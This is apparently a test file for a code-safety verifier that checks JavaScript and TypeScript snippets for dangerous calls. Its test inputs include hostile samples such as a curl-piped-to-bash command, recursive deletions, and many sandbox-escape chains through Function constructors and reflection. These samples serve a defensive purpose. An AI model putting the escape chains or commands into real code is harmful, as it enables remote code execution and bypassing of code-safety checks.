import t from 'tap'
import type { CodeClaim } from '../types/claims.js'
import type { EngineResult } from '../types/engine.js'
import { canonicalHash, sha256Hex } from '../lib/canonical.js'
import { admissionOf } from '../lib/result.js'
import { createCodeEngine, MAX_CODE_BYTES } from '../lib/engines/code/index.js'
import { criticalTypes, issues, type Asserts } from './helpers/code.js'
import { classifySecretValue, isSecretName, nameWords } from '../lib/engines/code/issues.js'

const engine = createCodeEngine()

async function check (code: string, language: string = 'javascript', taint?: boolean): Promise<EngineResult> {
  const claim = { type: 'code', code, language, ...(taint === undefined ? {} : { taint }) } as unknown as CodeClaim
  return await engine.verify(claim, { signal: new AbortController().signal })
}

/** Unsafe: VERIFIED, is_valid false, admission BLOCKED, with a CRITICAL issue of `type`. */
async function unsafe (t: Asserts, code: string, type: string, language = 'javascript', taint?: boolean): Promise<void> {
  const r = await check(code, language, taint)
  t.equal(r.status, 'VERIFIED', `${code.slice(0, 60)}: analysed`)
  t.equal(admissionOf(r), 'BLOCKED', `${code.slice(0, 60)}: not admitted`)
  t.ok(criticalTypes(r).includes(type), `${code.slice(0, 60)}: CRITICAL ${type} (got ${JSON.stringify(criticalTypes(r))})`)
}

/** Safe: VERIFIED, is_valid true, admission ADMIT (WARNINGs allowed). */
async function safe (t: Asserts, code: string, language = 'javascript', taint?: boolean): Promise<EngineResult> {
  const r = await check(code, language, taint)
  t.equal(r.status, 'VERIFIED', `${code.slice(0, 60)}: analysed`)
  t.same(criticalTypes(r), [], `${code.slice(0, 60)}: no CRITICAL issue`)
  t.equal(admissionOf(r), 'ADMIT', `${code.slice(0, 60)}: admitted`)
  return r
}

t.test('result shape follows QWED §4.3', async (t) => {
  const code = 'const doubled = [1, 2, 3].map((n) => n * 2)\nconsole.log(doubled)\n'
  const ok = await check(code)
  t.equal(ok.status, 'VERIFIED')
  t.equal(ok.agent_message, 'The code passed security verification and is safe to use.')
  t.match(ok.developer_fields, { constraint_id: 'code.code_safe', is_safe: true, is_valid: true, language: 'javascript', issues: [], critical_count: 0, warning_count: 0 })
  t.equal(ok.proof_ref, canonicalHash({
    engine: 'qwed-middleware-code',
    language: 'javascript',
    code_sha256: sha256Hex(code),
    is_safe: true,
    critical_count: 0,
    warning_count: 0,
    issue_types: [],
    capabilities: [],
    blocked_capabilities: [],
    policy: { allow: [], deny: [] },
    taint_analysis: false
  }), 'proof_ref binds language, code digest, verdict, issue types, capabilities and policy')
  t.equal(ok.is_authoritative, true)

  const bad = await check('const userInput = req.query.q;\n\neval(userInput);\n')
  t.equal(bad.status, 'VERIFIED', 'proven unsafe is still an analysis result')
  t.equal(bad.agent_message, 'The code failed security verification and is not safe to use.')
  t.match(bad.developer_fields, { constraint_id: 'code.capability_code', is_safe: false, is_valid: false, critical_count: 1, warning_count: 0, blocked_capabilities: ['code'] })
  t.same(issues(bad)[0], { severity: 'CRITICAL', type: 'dangerous_function', description: 'eval() runs dynamically supplied code', line_number: 3, capability: 'code' })
  t.equal(admissionOf(bad), 'BLOCKED')
  t.notMatch(bad.agent_message, /eval/, 'agent_message does not reveal rule internals')
})

t.test('eval and the Function constructor', async (t) => {
  await unsafe(t, 'eval(userInput)', 'dangerous_function')
  await unsafe(t, 'const e = eval\ne(x)', 'dangerous_function')
  await unsafe(t, '(0, eval)(code)', 'dangerous_function')
  await unsafe(t, 'window.eval(code)', 'dangerous_function')
  await unsafe(t, 'const fn = new Function("return " + body)\nfn()', 'dangerous_function')
  await unsafe(t, 'Function("a", "return a")(1)', 'dangerous_function')
  await unsafe(t, 'const F = Function\nnew F("x")', 'dangerous_function')
  await safe(t, 'const msg = "never call eval on user input"\nconsole.log(msg)')
  await safe(t, '// eval is evil\n/* eval(x) */\nconst x = 1')
  await safe(t, 'function evaluate (model, data) { return model.score(data) }\nevaluate(m, d)')
  await safe(t, 'model.eval()\nexpr.evaluate(scope)\nconst retrieval = 1')
  await safe(t, 'if (typeof eval === "function") {}\nif (f instanceof Function) {}\nFunction.prototype.call.call(f, null)')
})

t.test('setTimeout / setInterval with strings, not with functions', async (t) => {
  await unsafe(t, 'setTimeout("alert(1)", 10)', 'dangerous_function')
  await unsafe(t, 'setInterval(`tick($' + '{n})`, 1000)', 'dangerous_function')
  await unsafe(t, 'const code = "run()"\nsetTimeout(code, 5)', 'dangerous_function')
  await unsafe(t, 'window.setTimeout("x()" + y)', 'dangerous_function')
  await safe(t, 'setTimeout(fn, 10)')
  await safe(t, 'setTimeout(() => done(), 10)\nsetInterval(function () { tick() }, 1000)')
})

t.test('child_process in every spelling', async (t) => {
  await unsafe(t, "require('child_process').exec('rm -rf ' + dir);\n", 'command_execution')
  await unsafe(t, "const { exec } = require('child_process');\nexec(`ls $" + '{userDir}`);\n', 'command_execution')
  await unsafe(t, "const { execSync: run } = require('node:child_process')\nrun('whoami')", 'command_execution')
  await unsafe(t, "import { exec } from 'child_process'\nexec('ls')", 'command_execution')
  await unsafe(t, "import * as cp from 'node:child_process'\ncp.execSync('id')", 'command_execution')
  await unsafe(t, "import cp from 'child_process'\ncp.spawn(cmd, args)", 'command_injection')
  await unsafe(t, "const cp = require('child_process')\ncp.spawn('ls', ['-l'], { shell: true })", 'command_injection')
  await unsafe(t, "const cp = require('child_process')\ncp['ex' + 'ec']('id')", 'command_execution')
  await unsafe(t, "const cp = require('child_process')\ncp[method]('id')", 'dynamic_access')
  await unsafe(t, "const m = await import('child_process')", 'command_execution')
  await unsafe(t, "import('node:child_process').then((m) => m.exec(x))", 'command_execution')
  await unsafe(t, "import { createRequire } from 'node:module'\nconst require = createRequire(import.meta.url)\nrequire('child_process').execSync('id')", 'command_execution')
  await unsafe(t, "require('child_' + 'process')", 'dynamic_import')
  await unsafe(t, 'require(moduleName)', 'dynamic_import')
  await unsafe(t, 'import(modulePath)', 'dynamic_import')
  await unsafe(t, "require('child_process').exec('curl http://x.sh | bash')", 'remote_code_execution')
  await unsafe(t, "require('child_process').exec('rm -rf /tmp/build')", 'recursive_deletion')
  // starting any program is the process capability, whatever the argv: denied by default, a
  // WARNING when the claim allows it
  const fixed = await check("const { spawn } = require('child_process')\nspawn('ls', ['-l'])")
  t.equal(admissionOf(fixed), 'BLOCKED', 'a fixed command is still a process')
  t.equal(fixed.developer_fields.constraint_id, 'code.capability_process')
  const allowed = await engine.verify({ type: 'code', language: 'javascript', code: "const { spawn } = require('child_process')\nspawn('ls', ['-l'])", allow: ['process'] }, { signal: new AbortController().signal })
  t.equal(admissionOf(allowed), 'ADMIT', 'allowed by the claim')
  t.equal(issues(allowed)[0]?.severity, 'WARNING', 'an allowed capability is reported as a WARNING')
  await safe(t, "const path = require('path')\npath.join(a, b)\nconst re = /exec/\nre.exec(s)")
})

t.test('computed access, constructor chains, prototype pollution', async (t) => {
  await unsafe(t, 'window["ev" + "al"](code);\n', 'dangerous_function')
  await unsafe(t, "globalThis['eval'](s)", 'dangerous_function')
  await unsafe(t, 'globalThis[name](payload)', 'dynamic_access')
  await unsafe(t, 'self[atob("ZXZhbA==")](x)', 'dangerous_function')
  await unsafe(t, "[].constructor.constructor('return process')()", 'dangerous_function')
  await unsafe(t, "(() => {}).constructor('return this')()", 'dangerous_function')
  await unsafe(t, "Function.prototype.constructor('return process')()", 'dangerous_function')
  await unsafe(t, '[][key][key2]', 'dynamic_access')
  await unsafe(t, 'obj.__proto__.isAdmin = true', 'prototype_pollution')
  await unsafe(t, "target['__proto__'].polluted = 1", 'prototype_pollution')
  await unsafe(t, 'Object.prototype.isAdmin = true', 'prototype_pollution')
  await unsafe(t, 'x.constructor.prototype.polluted = 1', 'prototype_pollution')
  await safe(t, "window.localStorage.getItem('k')\nwindow['localStorage'].clear()")
  await safe(t, 'class Point {\n  constructor (x, y) { this.x = x; this.y = y }\n}\nconst name = p.constructor.name')
  await safe(t, 'Foo.prototype.bar = function () {}\nconst copy = new this.constructor()')
  await safe(t, 'const map = {}\nmap[key] = value')
})

t.test('XSS sinks', async (t) => {
  await unsafe(t, 'document.getElementById("out").innerHTML = userInput;\n', 'xss')
  await unsafe(t, 'el.outerHTML = `<p>$' + '{name}</p>`', 'xss')
  await unsafe(t, 'el.innerHTML += row', 'xss')
  await unsafe(t, 'document.write(html)', 'xss')
  await unsafe(t, "el.insertAdjacentHTML('beforeend', markup)", 'xss')
  await unsafe(t, 'const a = <div dangerouslySetInnerHTML={{ __html: html }} />', 'xss')
  await safe(t, "el.innerHTML = ''\nel.textContent = userInput\ndocument.write('<p>static</p>')")
  await safe(t, 'el.innerHTML = DOMPurify.sanitize(dirty)')
  await safe(t, 'const a = <div className="x">{text}</div>')
})

t.test('native internals, vm, recursive deletion', async (t) => {
  await unsafe(t, "process.binding('spawn_sync')", 'command_execution')
  await unsafe(t, "process['binding']('fs')", 'command_execution')
  await unsafe(t, "const vm = require('vm')\nvm.runInNewContext(code, {})", 'dangerous_function')
  await unsafe(t, "import { runInThisContext } from 'node:vm'\nrunInThisContext(src)", 'dangerous_function')
  await unsafe(t, "const { Worker } = require('worker_threads')\nnew Worker(src, { eval: true })", 'dangerous_function')
  await unsafe(t, "const fs = require('fs')\nfs.rmSync(p, { recursive: true, force: true })", 'recursive_deletion')
  await unsafe(t, "import { rm } from 'node:fs/promises'\nawait rm(dir, { recursive: true })", 'recursive_deletion')
  await unsafe(t, "const fs = require('fs')\nfs.promises.rm(dir, { recursive: true })", 'recursive_deletion')
  await unsafe(t, "const rimraf = require('rimraf')\nrimraf.sync('build')", 'recursive_deletion')
  await unsafe(t, "import { rimraf } from 'rimraf'\nawait rimraf('dist')", 'recursive_deletion')
  await safe(t, "const { Worker } = require('node:worker_threads')\nnew Worker('./job.js')\nconst file = require(__dirname + '/data.json')")
  // deletion is fs.delete outside a temp dir, recursive or not; inside one it is allowed
  await unsafe(t, "const fs = require('fs')\nfs.rmSync(file)", 'capability_use')
  await unsafe(t, "const fs = require('fs')\nconst opts = { force: true, recursive: true }\nfs.rmSync(p, { ...opts })", 'recursive_deletion')
  await safe(t, "const fs = require('fs')\nconst os = require('os')\nconst path = require('path')\nfs.rmSync(path.join(os.tmpdir(), 'job'), { recursive: true })\nfs.readFileSync('a.txt')")
  await safe(t, 'process.exitCode = 1\nconsole.log(process.env.HOME)')
})

t.test('hard-coded secrets, weak randomness, weak password hashing', async (t) => {
  await unsafe(t, 'const apiKey = "sk-live-1234567890abcdef";\nfetch(url, { headers: { Authorization: apiKey } });\n', 'hardcoded_secret')
  await unsafe(t, "const password = 'hunter2!'", 'hardcoded_secret')
  await unsafe(t, "const config = { clientSecret: 'a8f5f167f44f4964e6c998dee827110c' }", 'hardcoded_secret')
  await unsafe(t, "const k = 'AKIAIOSFODNN7EXAMPLE'", 'hardcoded_secret')
  await unsafe(t, '// token: ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789', 'hardcoded_secret')
  await unsafe(t, "if (password === 'letmein123') grant()", 'hardcoded_secret')
  await unsafe(t, 'const token = Math.random().toString(36).slice(2)', 'weak_random')
  await unsafe(t, "const hash = crypto.createHash('md5').update(password).digest('hex')", 'weak_crypto_with_password')
  const placeholder = await safe(t, "const apiKey = 'your-api-key-here'")
  t.equal(issues(placeholder)[0]?.severity, 'WARNING', 'a placeholder credential is a WARNING')
  await safe(t, "const password = process.env.DB_PASSWORD\nconst tokenUrl = 'https://auth.example.com/token'\nconst passwordLabel = 'Password'")
  await safe(t, "const id = Math.random()\nconst digest = crypto.createHash('md5').update(fileBuffer).digest('hex')")
})

t.test('SQL built from data is a WARNING without taint', async (t) => {
  const r = await safe(t, "db.query('SELECT * FROM users WHERE id = ' + id)")
  t.equal(issues(r)[0]?.type, 'sql_injection')
  await safe(t, "db.query('SELECT * FROM users WHERE id = $1', [id])")
})

t.test('taint: request data into sinks', async (t) => {
  await unsafe(t, "app.get('/u', (req, res) => {\n  const q = req.query.name\n  db.query(`SELECT * FROM u WHERE name = '$" + "{q}'`)\n})", 'taint_flow', 'javascript', true)
  await unsafe(t, "const { execFile } = require('child_process')\nfunction run (branch) { execFile('git', ['checkout', branch]) }\nrun(req.body.branch)", 'taint_flow', 'javascript', true)
  await unsafe(t, "const file = process.argv[2]\nrequire('fs').readFileSync(file)", 'taint_flow', 'javascript', true)
  await unsafe(t, "const { html } = req.body\nel.innerHTML = '<b>' + html + '</b>'", 'taint_flow', 'javascript', true)
  await unsafe(t, 'settings[req.body.key] = req.body.value', 'taint_flow', 'javascript', true)
  await safe(t, "app.get('/u', (req, res) => {\n  const id = parseInt(req.params.id, 10)\n  db.query('SELECT * FROM u WHERE id = ' + id)\n})", 'javascript', true)
  await safe(t, "app.get('/u', (req, res) => { db.query('SELECT * FROM u WHERE id = $1', [req.query.id]); res.json(req.body) })", 'javascript', true)
  const off = await check("const q = req.query.q\ndb.query('SELECT ' + q)", 'javascript', false)
  t.notOk(issues(off).some((i) => i.type === 'taint_flow'), 'no taint analysis unless asked')
  t.equal(off.developer_fields.taint_analysis, false)
})

t.test('TypeScript: types erased carefully, runtime code still analysed', async (t) => {
  await safe(t, 'class Point {\n  constructor(public x: number, public y: number) {}\n  norm(): number { return Math.hypot(this.x, this.y); }\n}\n', 'typescript')
  await safe(t, [
    'interface User { id: number; name?: string; roles: Array<"admin" | "user"> }',
    'type Handler<T = unknown> = (req: Request, body: T) => Promise<void>',
    "import type { Request } from 'express'",
    'enum Color { Red, Green = "g" }',
    'export abstract class Repo<T extends { id: number }> implements Iterable<T> {',
    '  private readonly items: T[] = []',
    '  protected abstract load(): Promise<T[]>',
    '  get size(): number { return this.items.length }',
    '  *[Symbol.iterator](): Iterator<T> { yield* this.items }',
    '}',
    'const byId = new Map<number, User>()',
    'const first = <T,>(xs: T[]): T | undefined => xs[0]',
    'const u = JSON.parse(s) as User',
    'const n = maybe!.value satisfies number'
  ].join('\n'), 'ts')
  await unsafe(t, 'function run(code: string): unknown {\n  return eval(code)\n}', 'dangerous_function', 'typescript')
  await unsafe(t, "import { exec } from 'child_process'\nconst cmd: string = input as string\nexec(cmd)", 'command_execution', 'typescript')
  await unsafe(t, 'enum Op { Run = eval("1") }', 'dangerous_function', 'typescript')
  await unsafe(t, "require<any>('child_process').exec(cmd)", 'command_execution', 'typescript')
  const r = await check('interface A {\n  x: number\n}\n\nconst f = (s: string): void => { eval(s) }\n', 'typescript')
  t.equal(issues(r)[0]?.line_number, 5, 'line numbers survive type erasure')
  const bad = await check('let x: = 1', 'typescript')
  t.equal(bad.status, 'BLOCKED')
  t.equal(bad.developer_fields.constraint_id, 'code.parse_error')
})

t.test('the TypeScript front end erases only what does not run', async (t) => {
  // `d < e && g > (h)` is two comparisons, not type arguments; `f<string>(b as any)!` is a call of f
  await safe(t, 'const a: number = f<string>(b as any)!\nlet c = d < e && g > (h)\n', 'typescript')
  await unsafe(t, 'const a = (eval as any)<string>(src)!', 'dangerous_function', 'typescript')
  await unsafe(t, "import cp = require('child_process')\ncp.exec(cmd)", 'command_execution', 'typescript')
  await safe(t, 'const el = <div title="a > b">{x as string} it\'s</div>', 'typescript')
  const bad = await check('const a = (x: number => x', 'typescript')
  t.equal(bad.status, 'BLOCKED', 'what does not parse is reported, not guessed')
})

t.test('TSX components', async (t) => {
  const component = [
    "import React, { useState } from 'react'",
    'interface Props { items: Item[]; onSelect?: (id: number) => void }',
    'export function List ({ items, onSelect }: Props): JSX.Element {',
    '  const [sel, setSel] = useState<number | null>(null)',
    '  return (',
    '    <ul className="list">',
    "      {items.map((i: Item) => <li key={i.id} onClick={() => setSel(i.id)}>{i.name} — it's {sel === i.id ? 'on' : 'off'}</li>)}",
    '    </ul>',
    '  )',
    '}'
  ].join('\n')
  await safe(t, component, 'typescript')
  await unsafe(t, 'const C = (p: { html: string }) => <div dangerouslySetInnerHTML={{ __html: p.html }} />', 'xss', 'tsx')
  await unsafe(t, 'const C = (p: { code: string }) => <button onClick={() => eval(p.code as string)}>run</button>', 'dangerous_function', 'typescript')
})

t.test('language normalisation and unsupported languages', async (t) => {
  for (const lang of ['js', 'JS', ' javascript ', 'node', 'jsx']) {
    const r = await check('const a = 1', lang)
    t.equal(r.developer_fields.language, 'javascript', `${lang} → javascript`)
  }
  t.equal((await check('const a: number = 1', 'ts')).developer_fields.language, 'typescript')
  for (const lang of ['java', 'go', 'cobol', '', 42]) {
    const r = await check('x', lang as string)
    t.equal(r.status, 'BLOCKED', `${String(lang)} is BLOCKED`)
    t.equal(r.developer_fields.constraint_id, 'code.unsupported_language')
    t.same(r.developer_fields.supported_languages, ['javascript', 'python', 'typescript'])
    t.equal(r.agent_message, 'Code verification could not be completed because the specified language is not supported.')
  }
})

t.test('malformed, unparseable, oversized and deeply nested input is BLOCKED', async (t) => {
  const notString = await engine.verify({ type: 'code', code: 42, language: 'javascript' } as unknown as CodeClaim, { signal: new AbortController().signal })
  t.equal(notString.developer_fields.constraint_id, 'code.invalid_claim')
  const parse = await check('function (')
  t.equal(parse.status, 'BLOCKED')
  t.equal(parse.developer_fields.constraint_id, 'code.parse_error')
  t.equal(admissionOf(parse), 'BLOCKED')
  const script = await check('with (obj) { x = 1 }')
  t.equal(script.status, 'VERIFIED', 'sloppy-mode scripts parse (module first, then script)')
  const big = await check('x'.repeat(MAX_CODE_BYTES + 1))
  t.equal(big.developer_fields.constraint_id, 'code.too_large')
  const multibyte = await check('"' + 'é'.repeat(MAX_CODE_BYTES / 2) + '"')
  t.equal(multibyte.developer_fields.constraint_id, 'code.too_large', 'the cap counts UTF-8 bytes')
  const deep = await check('('.repeat(50_000) + ')'.repeat(50_000))
  t.equal(deep.status, 'BLOCKED')
  t.equal(deep.developer_fields.constraint_id, 'code.too_deep')
  const nested = await check('x = ' + '['.repeat(3000) + ']'.repeat(3000))
  t.equal(nested.developer_fields.constraint_id, 'code.too_deep', 'trees deeper than the walker bound are refused')
  const aborted = new AbortController()
  aborted.abort()
  const late = await engine.verify({ type: 'code', code: 'a', language: 'js' } as unknown as CodeClaim, { signal: aborted.signal })
  t.equal(late.developer_fields.constraint_id, 'code.aborted')
  t.equal(late.cacheable, false)
})

t.test('a 100 KB snippet verifies', async (t) => {
  const block = [
    'export function handler (req, res) {',
    '  const items = req.body.items.map((item) => ({ id: item.id, total: item.qty * item.price }))',
    '  const sum = items.reduce((a, b) => a + b.total, 0)',
    '  setTimeout(() => res.json({ sum, items }), 10)',
    '}',
    ''
  ].join('\n')
  let n = 0
  const code = block.repeat(Math.ceil(100_000 / block.length)).replace(/handler/g, () => `handler${n++}`)
  t.ok(code.length >= 100_000)
  // its time is reported by `npm run bench:code` (the large-js row), not asserted here
  const r = await check(code, 'javascript', true)
  t.equal(r.status, 'VERIFIED')
  t.equal(admissionOf(r), 'ADMIT')
})

// The time of these chains (n and 2n assignments side by side) is reported by `npm run bench:code`.
t.test('a name reassigned many times resolves', async (t) => {
  const code = 'let ans = start()\n' + 'ans = ans.fix(ctx)\n'.repeat(400) + 'ans.run()\n'
  const r = await check(code)
  t.equal(r.status, 'VERIFIED')
  const str = 'let s = "a"\n' + 's = s + "b"\n'.repeat(400) + 'setTimeout(s, 1)\n'
  const r2 = await check(str)
  t.ok(criticalTypes(r2).includes('dangerous_function'), 'a string built over 400 assignments is still a string')
})

// ---- security corpus findings (test/fixtures/security/parser-escapes.json): each escape below
// was admitted before; the rules now generalise over the shapes, not the strings.

t.test('call / apply / bind / Reflect.apply invoke the function they are read from', async (t) => {
  await unsafe(t, "require.call(null, 'child_process').execSync('id')", 'command_execution')
  await unsafe(t, "require.apply(null, ['child_process']).execSync('id')", 'command_execution')
  await unsafe(t, "const cp = require('child_process')\ncp.exec.call(null, 'ls')", 'command_execution')
  await unsafe(t, "const cp = require('child_process')\ncp.spawn.apply(cp, args)", 'command_injection')
  await unsafe(t, "setTimeout.call(null, 'alert(1)', 0)", 'dangerous_function')
  await unsafe(t, 'setTimeout.apply(null, args)', 'dangerous_function')
  await unsafe(t, "Function.apply(null, ['return process'])().exit(1)", 'dangerous_function')
  await unsafe(t, "Function.call(null, 'return 1')()", 'dangerous_function')
  await unsafe(t, "const f = Function.bind(null, 'return process')\nf()().exit(1)", 'dangerous_function')
  await unsafe(t, "const r = require.bind(null)\nr('child_process').execSync('id')", 'command_execution')
  await unsafe(t, "Reflect.apply(require, null, ['child_process']).execSync('id')", 'dynamic_import')
  await unsafe(t, "Reflect.construct(Function, ['return process'])()", 'dangerous_function')
  await safe(t, 'function g (x) { return x }\ng.call(this, 1)\ng.apply(null, [2])\nconst h = g.bind(null, 3)')
  await safe(t, 'const args = Array.prototype.slice.call(arguments, 1)\nconst max = Math.max.apply(null, [1, 2, 3])\nconst b = fn.bind(this)')
  await safe(t, 'const name = Function.name\nconst p = Function.prototype\nFunction.prototype.call.call(f, null)')
})

t.test('.constructor of a function value is Function (and its async / generator flavours)', async (t) => {
  await unsafe(t, "Object.constructor('return process')().exit(1)", 'dangerous_function')
  await unsafe(t, "Math.max.constructor('return process')().exit(1)", 'dangerous_function')
  await unsafe(t, "function * g () {}\ng.constructor('yield process')().next()", 'dangerous_function')
  await unsafe(t, "async function a () {}\na.constructor('return process')()", 'dangerous_function')
  await unsafe(t, "class K {}\nK.constructor('return process')()", 'dangerous_function')
  await unsafe(t, "const AF = Object.getPrototypeOf(async function () {}).constructor\nnew AF('return process')()", 'dangerous_function')
  await unsafe(t, "const GF = Reflect.getPrototypeOf(function * () {}).constructor\nGF('yield 1')", 'dangerous_function')
  await unsafe(t, "const C = Math.min.constructor\nC('return process')()", 'dangerous_function')
  await unsafe(t, "[].map.constructor('return 1')()", 'dangerous_function')
  await unsafe(t, "(async () => {}).constructor('return 1')()", 'dangerous_function')
  await unsafe(t, "f.__proto__.constructor('return 1')()", 'dangerous_function')
  await unsafe(t, "Object.constructor.call(null, 'return 1')()", 'dangerous_function')
  await unsafe(t, 'Object.constructor`return process```', 'dangerous_function')
  // an unknown object: a `.constructor` called with arguments may be Function (`this` can be a function)
  await unsafe(t, "x.constructor('return process')()", 'dangerous_function')
  await unsafe(t, "function f (s) { return this.constructor(s) }\nf.call(Math.max, 'return process')()", 'dangerous_function')
  await unsafe(t, "class P { m () { return new this.constructor('return process') } }", 'dangerous_function')
  await safe(t, 'class A { constructor () {} }\nconst a = new A()')
  await safe(t, 'const n = obj.constructor.name\nconst m = Object.constructor.name\nif (x.constructor === Object) {}')
  await unsafe(t, "const F = ''.sub.constructor\nF('return process')()", 'dangerous_function')
  await unsafe(t, "const F = handlers.onClick.constructor\nF('return process')()", 'dangerous_function')
  await safe(t, 'class P { clone () { return new this.constructor(this.x, this.y) } }')
  await safe(t, 'function clone (o) { return new o.constructor() }\nconst e = new this.state.constructor()\nconst n = this.constructor.displayName')
  await safe(t, 'Child.prototype = Object.create(Parent.prototype)\nChild.prototype.constructor = Child')
  await safe(t, 'const proto = Object.getPrototypeOf(obj)\nconst keys = Object.keys(proto)')
})

t.test('reflective reads of dangerous globals', async (t) => {
  await unsafe(t, "Object.getOwnPropertyDescriptor(globalThis, 'eval').value('1')", 'dangerous_function')
  await unsafe(t, "Reflect.getOwnPropertyDescriptor(window, 'eval').value('1')", 'dangerous_function')
  await unsafe(t, "const d = Object.getOwnPropertyDescriptors(globalThis)\nd.eval.value('1')", 'dangerous_function')
  await unsafe(t, "Reflect.get(globalThis, 'eval')('1')", 'dangerous_function')
  await unsafe(t, "const e = Reflect.get(self, 'ev' + 'al')\ne('1')", 'dangerous_function')
  await unsafe(t, "Reflect.get(globalThis, k)('1')", 'dynamic_access')
  await unsafe(t, 'Object.getOwnPropertyDescriptor(process, name).value()', 'dynamic_access')
  await unsafe(t, "Object.values(globalThis).find((f) => f.name === 'eval')('1')", 'dynamic_access')
  await safe(t, "Object.getOwnPropertyDescriptor(obj, 'x').value\nconst d = Reflect.get(target, key)\nconsole.log(Object.keys(process.env))")
  await safe(t, "const desc = Object.getOwnPropertyDescriptor(process, 'env')\nObject.defineProperty(obj, key, { value: 1 })")
})

t.test('imports of URLs and escaping command modules', async (t) => {
  await unsafe(t, "import('data:text/javascript,process.exit(1)')", 'dynamic_import')
  await unsafe(t, "import('https://cdn.example/x.js')", 'dynamic_import')
  await unsafe(t, "import x from 'data:text/javascript,export default 1'", 'dynamic_import')
  await unsafe(t, "export * from 'https://cdn.example/mod.js'", 'dynamic_import')
  await unsafe(t, "import('node:process').then((p) => p.binding('spawn_sync'))", 'command_execution')
  await unsafe(t, "import('node:module').then((m) => m.createRequire(import.meta.url)('child_process'))", 'command_execution')
  await unsafe(t, "const cp = require('child_process')\nconst fns = [cp.execSync]\nfns[0]('id')", 'command_execution')
  await unsafe(t, "[require('child_process')][0].execSync('id')", 'command_execution')
  await unsafe(t, "const cp = require('child_process')\nrun(cp)", 'command_execution')
  await unsafe(t, "const { exec } = require('child_process')\nconst run = require('util').promisify(exec)", 'command_execution')
  await unsafe(t, "const cp = require('child_process')\ncp.execSync`id`", 'command_execution')
  await unsafe(t, 'const loaders = { load: require }\nloaders.load(name)', 'dynamic_import')
  await safe(t, "import('./module.js').then((m) => m.run())\nconst l = await import('lodash')\nimport fs from 'node:fs'\nfs.readFileSync('a')")
  await unsafe(t, "const { execFile } = require('child_process')\nexecFile('ls', ['-l'])", 'capability_use')
  await safe(t, "const cp = require('child_process')\nconst { spawn } = cp")
  await safe(t, "if (typeof require !== 'undefined' && require.main === module) main()\nconst p = require.resolve('x')")
})

t.test('the typescript path sees the same escapes', async (t) => {
  await unsafe(t, "(Object as any).constructor('return process')()", 'dangerous_function', 'typescript')
  await unsafe(t, "(require as Function).call(null, 'child_process').execSync('id')", 'command_execution', 'typescript')
  await unsafe(t, "import('data:text/javascript,1' as string)", 'dynamic_import', 'typescript')
})

// Their time at 60 KB and 120 KB is reported by `npm run bench:code`; here the verdicts.
t.test('pathological chains are analysed', async (t) => {
  const many = (stmt: string): string => Array.from({ length: Math.floor(60_000 / (stmt.length + 1)) }, () => stmt).join('\n')
  for (const code of [
    many('x' + '.constructor()'.repeat(300)),
    many('x' + '.call()'.repeat(300)),
    many('Function' + '.bind()'.repeat(300)),
    many('Reflect.apply('.repeat(200) + 'f' + ')'.repeat(200)),
    'let a = b, c = d\n' + many('a = c.constructor; c = a.constructor')
  ]) {
    const r = await check(code)
    t.equal(r.status, 'VERIFIED', `${code.slice(0, 30)}: analysed`)
  }
})

/**
 * The regex-based nameWords() this project shipped before (quadratic on long runs of capitals or
 * digits: a 150 KB identifier blocked the event loop for 20 s), kept here only as the oracle the
 * linear rewrite must agree with.
 */
function nameWordsBefore (name: string): string[] {
  return name
    .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
    .replace(/([A-Z]+)([A-Z][a-z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .map((w) => w.replace(/[0-9]+$/, ''))
    .filter((w) => w.length > 0)
}

t.test('nameWords: a linear single pass with the same words as before', async (t) => {
  const typical = [
    'camelCaseName', 'PascalCase', 'snake_case', 'SCREAMING_CASE', 'HTTPServer', 'XMLHttpRequest', 'getHTTPSUrl',
    'apiKey', 'apiKey2', 'API_KEY', 'password_v2', 'db-password2', 'user_pwd', 'pw_hash', 'GITHUB_TOKEN', 'clientSecret',
    'TOKEN_URL', 'aB1C2dEF3gH', 'v2Name', 'a1B', 'ABC', 'ABCDef', 'AAbCCd', '__init__', '_private', '$el', 'x', '',
    '123abc', 'abc123def456', 'ÉtéKey', 'İstanbulKey', 'ﬁleName', 'KelvinKToken', 'a-b_c.d e', 'sessionID', 'OAuth2Token'
  ]
  for (const name of typical) t.same(nameWords(name), nameWordsBefore(name), JSON.stringify(name))
  t.same(nameWords('HTTPServer'), ['http', 'server'])
  t.same(nameWords('apiKey2'), ['api', 'key'])
  t.same(nameWords('password_v2'), ['password', 'v'])
  // a deterministic sample of short names over a tricky alphabet (case runs, digits, separators, non-ASCII)
  const alphabet = 'aAbBzZ09_-$ É.KİﬁxX'
  let seed = 20260707
  const next = (): number => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed }
  let differing = 0
  for (let k = 0; k < 20_000; k++) {
    let name = ''
    for (let i = next() % 12; i > 0; i--) name += alphabet[next() % alphabet.length] as string
    if (JSON.stringify(nameWords(name)) !== JSON.stringify(nameWordsBefore(name))) differing++
  }
  t.equal(differing, 0, '20,000 random names split alike')

  // 150 KB identifiers (the regexes took 20 s on them; `npm run bench:code` reports the time now)
  t.same(nameWords('API_KEY_' + 'A'.repeat(150_000)).slice(0, 2), ['api', 'key'])
  t.same(nameWords('password_a' + '0'.repeat(150_000) + 'b'), ['password', 'a' + '0'.repeat(150_000) + 'b'])
  t.ok(isSecretName('API_KEY_' + 'A'.repeat(150_000)), 'still a secret name')
})

t.test('classifySecretValue still recognises regular expressions', async (t) => {
  for (const re of ['[A-Z]\\w*', '[a-z-]+', '[0-9a-f-]{8}', '(?:ab)+', '\\d+']) t.equal(classifySecretValue(re), null, `${re} is a regex, not a secret`)
  t.equal(classifySecretValue('hunter2hunter2'), 'secret')
  t.equal(classifySecretValue('x[a-z'), 'secret', 'an unclosed class is not a regex')
  // 4,000 open classes: once quadratic; its time is reported by `npm run bench:code`
  t.equal(classifySecretValue('['.repeat(4000) + '!'), 'secret', 'unclosed classes are no regex')
})
